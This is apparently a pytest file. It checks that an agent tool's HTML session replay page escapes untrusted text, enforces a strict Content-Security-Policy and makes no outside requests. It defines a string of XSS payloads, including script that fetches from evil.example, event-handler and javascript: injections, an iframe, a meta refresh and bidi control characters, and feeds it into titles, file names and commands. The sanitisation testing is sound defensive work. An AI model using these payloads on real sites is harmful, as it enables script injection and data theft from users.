"""The page of a session: what stands on it, and that text on it is only text."""

import base64
import hashlib
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agentctl.events.local import LocalEgress, LocalEgressStarted, LocalFilesChanged
from agentctl.events.user import UserToolConfirmation
from agentctl.paths import Home
from agentctl.session.files import File
from tests.browser import Browser, browser
from tests.cli.program import agentctl
from tests.kit import analysis, call, open_log, text, thinking
from tests.patch.recorded import FilesRecorder
from tests.patch.trees import Node
from tests.render.test_player import long_session

HOSTILE = (
    "</script><script>fetch('http://evil.example/')</script><img src=x onerror=alert(1)>"
    '<a href="javascript:alert(1)">x</a><style>@import url(http://evil.example/)</style>'
    "' onmouseover='alert(1) \" onfocus=\"alert(1) autofocus <!-- --> --!> ]]> &lt;b&gt; "
    "\u2028 \u2029 javascript:alert(1) \u202eevil\u202c \u200b \x1b[2J \x00"
    "<svg onload=alert(1)><iframe src=http://evil.example/></iframe><meta http-equiv=refresh content=0;url=http://e/>"
)

LONG = "\n".join(f"line {number} of a long output" for number in range(2_000))


def record(home: Home) -> None:
    """Record a session with files, connections, an approval and an error; all that others can say is hostile."""
    with open_log(home) as log:
        recorder = FilesRecorder(
            log, home, title=HOSTILE, agent={"name": HOSTILE}, environment={"name": HOSTILE}, model="script:" + HOSTILE
        )
        readme = b"# Read me\n\nOne.\nTwo.\n"
        recorder.begin({"README.md": Node(readme), "old.txt": Node(b"gone\n")}, HOSTILE)
        after = {
            "README.md": Node(readme.replace(b"Two", HOSTILE.replace("\x00", "").encode())),
            HOSTILE.replace("\x00", "").replace("/", "|"): Node(b"new\n"),
        }
        recorder.act("sed -i s/Two/2/ README.md", after)
        outside = File("/mnt/session/outputs/report.md", "file", 0o644, 3, "0" * 64)
        recorder.add(LocalFilesChanged, changes=[outside.as_json() | {"change": "created"}], tool_use_id=None)
        asked, fails, writes = recorder.answer(
            thinking(HOSTILE),
            text(HOSTILE),
            call("bash", "toolu_2", command="git push\n" + HOSTILE),
            call(HOSTILE, "toolu_3", **{HOSTILE: HOSTILE, "number": 3}),
            call("write", "toolu_4", file_path=HOSTILE, content=HOSTILE + LONG),
            asks=["toolu_2"],
        )
        recorder.rest("requires_action", event_ids=[asked.id])
        recorder.add(UserToolConfirmation, tool_use_id=asked.id, result="deny", deny_message=HOSTILE)
        recorder.run_tools(fails, writes)
        recorder.result(fails, HOSTILE + LONG, is_error=True)
        recorder.result(writes, HOSTILE)
        started = recorder.add(LocalEgressStarted, host="pypi.example", port=443, scheme="https")
        members = {"scheme": "https", "duration_seconds": 0.1, "bytes_sent": 100, "bytes_received": 2_000}
        recorder.add(LocalEgress, host="pypi.example", port=443, allowed=True, started_id=started.id, **members)
        recorder.add(LocalEgress, host=HOSTILE, port=80, allowed=False, reason=HOSTILE, **members)
        recorder.rest()


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = Home(tmp_path_factory.mktemp("recorded") / "home")
    record(home)
    return home.root


@pytest.fixture
def home(recorded: Path, own_home: Path) -> Home:
    shutil.copytree(recorded, own_home)
    return Home(own_home)


class Reader(HTMLParser):
    """Reads a page like a browser does, as far as elements, attributes and text go."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.text += " " if tag == "td" else ""
        if tag in self._inside:
            while self._inside.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self._inside[-1:] not in (["style"], ["script"]):
            self.text += data


def read(page: str) -> Reader:
    reader = Reader()
    reader.feed(page)
    return reader


def page_of(tmp_path: Path, *arguments: str) -> str:
    path = tmp_path / "page.html"
    done = agentctl("replay", "@", "--html", path, *arguments)
    assert done.code == 0, done.err
    return path.read_text(encoding="utf-8")


def test_all_text_of_others_is_only_text(home: Home, tmp_path: Path) -> None:
    page = page_of(tmp_path)
    reader = read(page)
    assert "<!--" not in page
    ours = {
        "html", "head", "meta", "title", "style", "body", "header", "h1", "p", "b", "code", "dl", "dt", "dd", "nav",
        "svg", "a", "rect", "details", "summary", "table", "tr", "th", "td", "div", "input", "button", "label",
        "output", "small", "main", "section", "span", "pre", "i", "ins", "del", "em", "script",
        "h2", "select", "option", "g",
    }  # fmt: skip
    assert {name for name, _ in reader.elements} <= ours
    assert [name for name, _ in reader.elements].count("script") == 1
    for name, attributes in reader.elements:
        assert not [attribute for attribute in attributes if attribute.startswith("on") or attribute == "style"]
        assert attributes.get("src") is None
        assert name != "a" or re.fullmatch(r"#e\d+", attributes["href"] or "")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b\u2028-\u202e\u2066-\u2069]", page)
    assert reader.text.count("<img src=x onerror=alert(1)>") > 10
    assert r"\u202eevil\u202c" in reader.text


def test_the_page_says_what_a_browser_may_do(home: Home, tmp_path: Path) -> None:
    page = page_of(tmp_path)
    policy = next(attributes["content"] for name, attributes in read(page).elements if attributes.get("http-equiv"))
    assert policy is not None
    found = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert found.pop("default-src") == "'none'"
    for kind, name in (("style", "style"), ("script", "script")):
        inner = re.findall(f"<{name}>(.*?)</{name}>", page, re.DOTALL)
        digests = [base64.b64encode(hashlib.sha256(each.encode()).digest()).decode() for each in inner]
        assert found.pop(f"{kind}-src-elem", None) is None
        assert found.pop(f"{kind}-src") == " ".join(f"'sha256-{digest}'" for digest in digests)
    assert found == {"base-uri": "'none'", "form-action": "'none'"}
    assert page.index("Content-Security-Policy") < page.index("<style>")


def test_every_event_has_a_row_that_can_be_linked_to(home: Home, tmp_path: Path) -> None:
    reader = read(page_of(tmp_path))
    names = [attributes["id"] for _, attributes in reader.elements if (attributes.get("id") or "").startswith("e")]
    count = agentctl("show", "@", "-o", "json").json["events"]
    assert names == [f"e{number}" for number in range(1, count + 1)] + ["every"] or names == ["every"] + [
        f"e{number}" for number in range(1, count + 1)
    ]
    rows = {attributes["id"]: attributes.get("data-k") for _, attributes in reader.elements if attributes.get("data-k")}
    assert sorted(rows.values(), key=str) == ["a", "a", "a", "e", "f", "f"]


def test_files_connections_and_costs_are_told(home: Home, tmp_path: Path) -> None:
    reader = read(page_of(tmp_path))
    told = " ".join(reader.text.split())
    assert told.count("workspace +1 ~1 -1") == 2
    assert "outputs +1 ~0 -0" in told
    assert "-Two." in told
    assert "old.txt" in told
    assert "pypi.example:443 1 100 B / 2.0 kB" in told
    assert "denied: </script>" in told
    assert "blob 0000" in told or "missing" in told


def test_long_texts_are_cut_with_the_command_that_shows_them(home: Home, tmp_path: Path) -> None:
    told = read(page_of(tmp_path)).text
    assert "line 0 of a long output" in told
    assert "line 1999 of a long output" in told
    assert "line 1000 of a long output" not in told
    commands = re.findall(r"all of it: agentctl ([^…]+) …", told)
    assert [command.split()[0] for command in commands] == ["events", "replay"]
    for command in commands:
        assert "line 1000 of a long output" in agentctl(*command.split()).out


def test_a_part_of_a_session_and_other_places(home: Home, tmp_path: Path) -> None:
    reader = read(page_of(tmp_path, "--only", "agent.*", "--until", "20"))
    names = [attributes["id"] for _, attributes in reader.elements if re.fullmatch(r"e\d+", attributes.get("id") or "")]
    assert names == ["e9", "e12", "e18", "e19", "e20"]
    assert agentctl("replay", "@", "--html", "-").out.startswith("<!doctype html>\n")
    done = agentctl("replay", "@", "--html", tmp_path / "p.html", "-o", "json")
    assert done.json == {
        "type": "page", "schema": "agentctl.page/1", "session_id": "sesn_01kaf3m9x8rq2m4n6p8r0t2v4w",
        "path": str(tmp_path / "p.html"), "events": done.json["events"], "bytes": (tmp_path / "p.html").stat().st_size,
    }  # fmt: skip
    lost = agentctl("replay", "@", "--html", tmp_path / "nowhere" / "p.html")
    assert (lost.code, lost.err.count("\n")) == (2, 1)
    assert list(tmp_path.glob(".p*")) == []


def test_what_is_no_file_is_written_to_and_never_replaced(home: Home, tmp_path: Path) -> None:
    both = agentctl("replay", "@", "--html", "-", "-o", "json")
    assert (both.code, both.json["schema"]) == (2, "agentctl.result/1")
    (tmp_path / "link.html").symlink_to(tmp_path / "there.html")
    assert agentctl("replay", "@", "--html", tmp_path / "link.html").code == 0
    assert (tmp_path / "link.html").is_symlink()
    page = (tmp_path / "there.html").read_text(encoding="utf-8")
    pipe = tmp_path / "pipe.html"
    os.mkfifo(pipe)
    reader = subprocess.Popen(["cat", pipe], stdout=subprocess.PIPE, text=True, encoding="utf-8")
    assert agentctl("replay", "@", "--html", pipe).code == 0
    assert reader.communicate(timeout=60)[0] == page
    assert pipe.is_fifo()
    assert agentctl("replay", "@", "--html", "/dev/stdout").out.startswith("<!doctype html>\n")


@pytest.fixture(scope="module")
def tab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browser(tmp_path_factory.mktemp("browser") / "profile", "--window-size=1100,900") as opened:
        yield opened


@pytest.mark.browser
def test_a_browser_opens_the_hostile_page_and_asks_nobody_for_anything(
    home: Home, tmp_path: Path, tab: Browser
) -> None:
    page_of(tmp_path)
    address = (tmp_path / "page.html").as_uri()
    before = len(tab.requests())
    tab.open(address)
    for fold in ("document.querySelectorAll('details').forEach((fold) => { fold.open = true })", "1"):
        tab.value(fold)
    tab.press("e", "j", "k", "/")
    assert tab.requests()[before:] == [address]
    assert tab.complaints() == []
    assert tab.value("document.scripts.length") == 1
    assert tab.value("document.querySelector('h1').textContent").startswith("</script><script>fetch(")
    assert tab.value("[...document.querySelectorAll('a')].every((link) => /^#e\\d+$/.test(link.getAttribute('href')))")


@pytest.mark.browser
def test_the_policy_stops_what_is_not_ours(home: Home, tmp_path: Path, tab: Browser) -> None:
    page = page_of(tmp_path).replace("</body>", "<script>document.title = 'theirs'</script><img src=data:,x></body>")
    path = tmp_path / "changed.html"
    path.write_text(page, encoding="utf-8")
    tab.open(path.as_uri())
    assert tab.value("document.title") != "theirs"
    assert [line for line in tab.complaints() if "Content Security Policy" in line]
    tab.heard.clear()


@pytest.mark.browser
def test_keys_step_through_a_page_and_find_things_on_it(own_home: Path, tmp_path: Path, tab: Browser) -> None:
    home = Home(own_home)
    with open_log(home) as log:
        analysis(FilesRecorder(log, home))
    page_of(tmp_path)
    tab.open((tmp_path / "page.html").as_uri())

    def at() -> str:
        return str(tab.value("location.hash"))

    tab.press("j", "j", "j")
    assert at() == "#e8"
    tab.press("k", "ArrowLeft", "ArrowRight")
    assert at() == "#e7"
    tab.press("e")
    assert at() == "#e31"
    tab.press("e")
    assert tab.value("document.getElementById('said').textContent") == "no error after this"
    assert tab.value("document.querySelector('#e31 details').open")
    tab.press("o")
    assert not tab.value("document.querySelector('#e31 details').open")
    tab.press("/", *"wrote chart", "Enter")
    assert at() == "#e46"
    assert tab.value("document.querySelector('#e46 details, #e46 pre').getBoundingClientRect().height > 0")
    tab.press("g", "v", "j")
    assert at() == "#e3"
    assert tab.value("document.activeElement.id") == "e3"
    tab.press("]")
    assert at() == "#e31"
    tab.press("?")
    assert tab.value("document.getElementById('keys').open")
    told = str(tab.value("document.getElementById('keys').textContent"))
    assert "search; next, previous" in told
    tab.open("about:blank")
    tab.open((tmp_path / "page.html").as_uri() + "#e32")
    box = tab.value(
        "(({top, height}) => [top, height, innerHeight])(document.getElementById('e32').getBoundingClientRect())"
    )
    assert 0 <= box[0] < box[2]
    assert box[1] > 0
    assert tab.complaints() == []


@pytest.mark.browser
def test_a_page_of_ten_thousand_events_is_small_and_opens(own_home: Path, tmp_path: Path, tab: Browser) -> None:
    home = Home(own_home)
    with open_log(home) as log:
        long_session(log, home, "long", 10_000)
    page_of(tmp_path)
    assert (tmp_path / "page.html").stat().st_size < 10_000_000
    tab.open((tmp_path / "page.html").as_uri())
    tab.press("G")
    assert tab.value("location.hash") == "#e10000" or tab.value("location.hash").startswith("#e99")
    assert tab.complaints() == []
